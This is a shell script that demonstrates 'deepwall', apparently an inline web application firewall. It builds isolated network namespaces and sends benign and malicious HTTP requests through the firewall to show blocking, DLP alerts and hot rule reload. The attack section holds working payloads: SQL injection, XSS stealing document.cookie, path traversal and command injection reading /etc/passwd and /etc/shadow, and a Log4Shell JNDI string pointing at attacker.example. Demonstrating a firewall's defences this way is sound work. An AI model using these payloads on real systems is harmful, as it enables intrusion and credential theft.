#!/bin/sh
# demo.sh BIN — deepwall inline between a client and a web server, in
# network namespaces of their own:
#
#   dwdemo-client (eth0 198.18.0.1) <-> dwdemo-fw (inner | deepwall | outer) <-> dwdemo-server (eth0 198.18.0.2)
#
# The server and the client are deepwall's own hidden helpers (deepwall
# demo-http serve|get), so nothing but iproute2 is needed. Traffic stays in
# the namespaces (198.18.0.0/15 is the benchmarking range); everything is
# removed at the end, also on Ctrl-C. Run as root: `make demo`.
set -eu

BIN=${1:-bin/deepwall}
[ "$(id -u)" -eq 0 ] || { echo "demo: run as root (namespaces and XDP need it)" >&2; exit 1; }
[ -x "$BIN" ] || { echo "demo: $BIN not found; run make build" >&2; exit 1; }
BIN=$(cd "$(dirname "$BIN")" && pwd)/$(basename "$BIN")
if ! command -v ip >/dev/null 2>&1; then
	echo "demo: installing iproute2"
	apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq iproute2 >/dev/null
fi

P=dwdemo
SERVER=198.18.0.2:8080
DIR=$(mktemp -d /tmp/deepwall-demo.XXXXXX)
SOCK=$DIR/deepwall.sock
AGENT_PID=
SERVER_PID=

if [ -t 1 ]; then
	B=$(printf '\033[1m'); R=$(printf '\033[31m'); G=$(printf '\033[32m'); Y=$(printf '\033[33m'); N=$(printf '\033[0m')
else
	B=; R=; G=; Y=; N=
fi
step() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }

stop_pid() { # pid: TERM, wait up to 10 s, then KILL
	[ -n "$1" ] || return 0
	kill -TERM "$1" 2>/dev/null || return 0
	i=0
	while kill -0 "$1" 2>/dev/null && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
	kill -KILL "$1" 2>/dev/null || true
}

cleanup() {
	trap - EXIT INT TERM
	stop_pid "$AGENT_PID"
	stop_pid "$SERVER_PID"
	for n in client fw server; do ip netns del "$P-$n" 2>/dev/null || true; done
	rm -rf "$DIR"
	echo "demo: cleaned up (namespaces $P-*, $DIR)"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# A demo interrupted by SIGKILL may have left its namespaces.
for n in client fw server; do ip netns del "$P-$n" 2>/dev/null || true; done

step "topology: $P-client <-> $P-fw (deepwall) <-> $P-server"
for n in client fw server; do
	ip netns add "$P-$n"
	ip -n "$P-$n" link set lo up
done
ip link add eth0 netns "$P-client" type veth peer name inner netns "$P-fw"
ip link add eth0 netns "$P-server" type veth peer name outer netns "$P-fw"
ip -n "$P-client" addr add 198.18.0.1/24 dev eth0
ip -n "$P-server" addr add 198.18.0.2/24 dev eth0
for n in client server; do ip -n "$P-$n" link set eth0 up; done
ip -n "$P-fw" link set inner up
ip -n "$P-fw" link set outer up
echo "client 198.18.0.1, server 198.18.0.2; $P-fw forwards nothing by itself"

step "web server in $P-server on $SERVER"
ip netns exec "$P-server" "$BIN" demo-http serve "$SERVER" >"$DIR/server.log" 2>&1 &
SERVER_PID=$!

step "deepwall run (default rule pack) on inner/outer in $P-fw"
# --netns enters the namespace for the ports only, so the bpffs pins stay
# in the host's mount namespace (ip netns exec would hide them).
"$BIN" run --netns "$P-fw" --inner inner --outer outer --socket "$SOCK" --state "$DIR/state" \
	--log "$DIR/eve.json" --workers 2 >"$DIR/agent.log" 2>&1 &
AGENT_PID=$!
i=0
until "$BIN" status --socket "$SOCK" >/dev/null 2>&1; do
	if ! kill -0 "$AGENT_PID" 2>/dev/null || [ $i -ge 300 ]; then
		echo "demo: the agent did not start:" >&2
		cat "$DIR/agent.log" >&2
		exit 1
	fi
	sleep 0.1
	i=$((i + 1))
done
sed -n 's/.*msg="changed port peer offload".* peer=\([^ ]*\) netns=\([^ ]*\) feature=\([^ ]*\) from=\([^ ]*\) to=\([^ ]*\).*/deepwall set \3 \4 -> \5 on \1 in \2 (needed for XDP on veth; restored on exit)/p' "$DIR/agent.log"
echo "agent pid $AGENT_PID, API on $SOCK"

# try NAME PATH [demo-http get flags...]: one request from the client.
try() {
	name=$1 path=$2
	shift 2
	out=$(ip netns exec "$P-client" "$BIN" demo-http get "$@" "http://$SERVER$path" 2>/dev/null) && rc=0 || rc=$?
	case $rc in
	0) printf '  %-34s %spassed%s   %s\n' "$name" "$G" "$N" "$out" ;;
	2) printf '  %-34s %sBLOCKED%s  connection reset by deepwall\n' "$name" "$R" "$N" ;;
	3) printf '  %-34s %sno answer%s\n' "$name" "$Y" "$N" ;;
	*) printf '  %-34s error: %s\n' "$name" "$out" ;;
	esac
}

step "benign requests"
try "home page" /
try "search for shoes" "/search?q=red+running+shoes"
try "search with punctuation" "/search?q=rock+%26+roll%3A+50%25+off%21"
try "form post" /echo -d "name=Alice&comment=Great+shop%2C+will+buy+again"

step "attacks"
try "SQL injection (UNION SELECT)" "/search?q=1%27%20union%20select%20password%20from%20users--"
try "SQL injection (tautology)" "/search?q=x%27%20or%20%27a%27=%27a"
try "XSS (script tag)" "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
try "XSS (event handler, POST)" /echo -d "comment=<img src=x onerror=alert(1)>"
try "path traversal" "/static/../../../etc/passwd"
try "command injection" "/search?q=shoes;cat%20/etc/shadow"
try "Log4Shell in a header" / -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}'
try "scanner user agent" / -H "User-Agent: sqlmap/1.7.2#stable"

step "data leaving the server"
try "card number in a response" /account
echo "  (DLP rules alert rather than block: the leak is logged, masked, see below)"

step "hot reload: block /admin without a restart"
try "GET /admin before" /admin
cat >"$DIR/admin.yaml" <<'EOF'
rules:
  - id: 9001
    name: admin console from outside
    action: block
    severity: high
    category: policy
    match:
      field: http.path
      regex: '^/admin\b'
EOF
"$BIN" rules add "$DIR/admin.yaml" --socket "$SOCK" -m "demo: close /admin" | sed 's/^/  /'
try "GET /admin after" /admin
try "home page after" /

sleep 0.5 # the verdict log flushes every 200 ms
step "deepwall status"
"$BIN" status --socket "$SOCK"

step "deepwall logs --type alert -n 12"
"$BIN" logs --file "$DIR/eve.json" --type alert -n 12 | cut -c1-220

step "deepwall flows --verdict drop"
"$BIN" flows --socket "$SOCK" --verdict drop --limit 8

step "stopping deepwall (it detaches from both ports)"
stop_pid "$AGENT_PID"
AGENT_PID=
grep -q 'port pair detached' "$DIR/agent.log" && echo "detached"
